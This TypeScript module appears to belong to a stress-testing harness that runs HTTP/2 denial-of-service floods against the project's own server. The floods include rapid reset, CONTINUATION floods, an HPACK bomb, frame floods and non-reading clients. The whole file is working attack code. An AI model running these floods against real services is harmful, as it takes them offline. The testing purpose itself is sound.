/** Frames of HTTP/2 in the wrong number or order. An ended connection is opened anew, at once. */
import { setTimeout } from "node:timers/promises";
import { EXECUTE, enveloped, executeRequest, STREAM_EXECUTE } from "../server/raw.ts";
import { type Attack, repeat, untilAborted, type Victim } from "./attack.ts";
import {
  callHeaders,
  END_HEADERS,
  END_STREAM,
  FRAME,
  frame,
  header,
  openHttp2,
  u32,
  type Wire,
} from "./frames.ts";

const NOTHING = Buffer.alloc(0);
/** Frames go out in one write of this many. */
const BURST = 100;
/** Of a connection, as long as it is open. */
const LEAST_BURSTS = 30;
/** Between bursts: 50,000 frames a second at most, so that the attacker leaves the machine a core. */
const BURST_MS = 2;
/** Before it comes again. */
const RECONNECT_MS = 20;

/** `burst`: the bytes of one write, given the number of the next stream. */
function flood(
  name: string,
  burst: (wire: Wire, stream: number) => Buffer,
  options: { readonly reads?: boolean; readonly mostBursts?: number } = {},
): Attack {
  return {
    name,
    connectionCount: 1,
    async run({ port, from }, signal) {
      let connectionCount = 0;
      let bytes = 0;
      await repeat(signal, 1000, async () => {
        const wire = await openHttp2(port, { reads: options.reads ?? true, from });
        connectionCount++;
        let stream = 1;
        const send = async (): Promise<void> => {
          if (!wire.isOpen) return;
          const chunk = burst(wire, stream);
          stream += 2 * BURST;
          bytes += chunk.length;
          await wire.send(chunk);
          await setTimeout(BURST_MS);
        };
        await repeat(signal, options.mostBursts ?? 500, send, LEAST_BURSTS);
        wire.close();
        await setTimeout(RECONNECT_MS);
      });
      return `${connectionCount} connections, ${(bytes / 1024 / 1024).toFixed(1)} MiB`;
    },
  };
}

function many(make: (index: number) => Buffer): Buffer {
  return Buffer.concat(Array.from({ length: BURST }, (_, index) => make(index)));
}

const call = callHeaders(EXECUTE);

/** Fills the peer's table with one header, then names it again and again: one byte each. */
function hpackBomb(stream: number): Buffer {
  const large = header("x-bomb", "b".repeat(3900), true);
  const block = Buffer.concat([callHeaders(EXECUTE), large, Buffer.alloc(12_000, 0xbe)]);
  return frame(FRAME.HEADERS, END_HEADERS | END_STREAM, stream, block);
}

/** As much work for the server, whether or not it is read. */
async function streams(
  { port, from }: Victim,
  signal: AbortSignal,
  reads: boolean,
): Promise<string> {
  const request = enveloped(executeRequest("echo", "word ".repeat(20_000)));
  const wires = await Promise.all(
    Array.from({ length: 4 }, () => openHttp2(port, { reads, from })),
  );
  const path = callHeaders(STREAM_EXECUTE);
  for (const wire of wires) {
    // A window that lets replies through as far as the sockets hold them.
    await wire.send(frame(FRAME.WINDOW_UPDATE, 0, 0, u32(0x3fff_ffff)));
    for (let stream = 1; stream < 8; stream += 2) {
      await wire.send(frame(FRAME.HEADERS, END_HEADERS, stream, path));
      for (let at = 0; at < request.length; at += 16_000) {
        const part = request.subarray(at, at + 16_000);
        const flags = at + 16_000 >= request.length ? END_STREAM : 0;
        await wire.send(frame(FRAME.DATA, flags, stream, part));
      }
      await wire.send(frame(FRAME.WINDOW_UPDATE, 0, stream, u32(0x3fff_ffff)));
    }
  }
  await untilAborted(signal);
  for (const wire of wires) wire.close();
  return "16 streams of 20,000 words";
}

export const FLOODS: readonly Attack[] = [
  flood("rapid reset", (_, stream) =>
    many((index) =>
      Buffer.concat([
        frame(FRAME.HEADERS, END_HEADERS, stream + 2 * index, call),
        frame(FRAME.RST_STREAM, 0, stream + 2 * index, u32(8)),
      ]),
    ),
  ),
  flood("calls reset when they run", (_, stream) => {
    const body = enveloped(executeRequest("echo"));
    return many((index) =>
      Buffer.concat([
        frame(FRAME.HEADERS, END_HEADERS, stream + 2 * index, call),
        frame(FRAME.DATA, END_STREAM, stream + 2 * index, body),
        frame(FRAME.RST_STREAM, 0, stream + 2 * index, u32(8)),
      ]),
    );
  }),
  flood("CONTINUATION flood", (_, stream) =>
    stream === 1
      ? frame(FRAME.HEADERS, 0, 1, call)
      : many((index) => frame(FRAME.CONTINUATION, 0, 1, header(`x-${index}`, "c".repeat(200)))),
  ),
  flood("empty CONTINUATION flood", (_, stream) =>
    stream === 1
      ? frame(FRAME.HEADERS, 0, 1, call)
      : many(() => frame(FRAME.CONTINUATION, 0, 1, NOTHING)),
  ),
  flood("WINDOW_UPDATE flood", (_, stream) =>
    Buffer.concat([
      ...(stream === 1 ? [frame(FRAME.HEADERS, END_HEADERS, 1, call)] : []),
      many((index) => frame(FRAME.WINDOW_UPDATE, 0, index % 2, u32(1))),
    ]),
  ),
  flood("SETTINGS flood", () => many(() => frame(FRAME.SETTINGS, 0, 0, NOTHING)), { reads: false }),
  flood(
    "PING flood, answers never read",
    () => many(() => frame(FRAME.PING, 0, 0, Buffer.alloc(8))),
    { reads: false },
  ),
  flood("empty DATA flood", (_, stream) =>
    Buffer.concat([
      ...(stream === 1 ? [frame(FRAME.HEADERS, END_HEADERS, 1, call)] : []),
      many(() => frame(FRAME.DATA, 0, 1, NOTHING)),
    ]),
  ),
  flood("PRIORITY flood", () =>
    many((index) => frame(FRAME.PRIORITY, 0, 2 * index + 1, Buffer.from([0, 0, 0, 0, 1]))),
  ),
  flood("frames of unknown types", () =>
    many((index) => frame(0x20 + (index % 64), 0, 0, Buffer.alloc(100))),
  ),
  flood("HPACK bomb", (_, stream) => hpackBomb(stream)),
  flood("many streams, none ended", (_, stream) =>
    many((index) => frame(FRAME.HEADERS, END_HEADERS, stream + 2 * index, call)),
  ),
  flood("table size changes", () =>
    many((index) =>
      frame(FRAME.SETTINGS, 0, 0, Buffer.concat([Buffer.from([0, 1]), u32(index % 2 ? 4096 : 0)])),
    ),
  ),
  {
    name: "readers that never read, HTTP/2",
    connectionCount: 4,
    run: (victim, signal) => streams(victim, signal, false),
    honest: (victim, signal) => streams(victim, signal, true),
  },
];
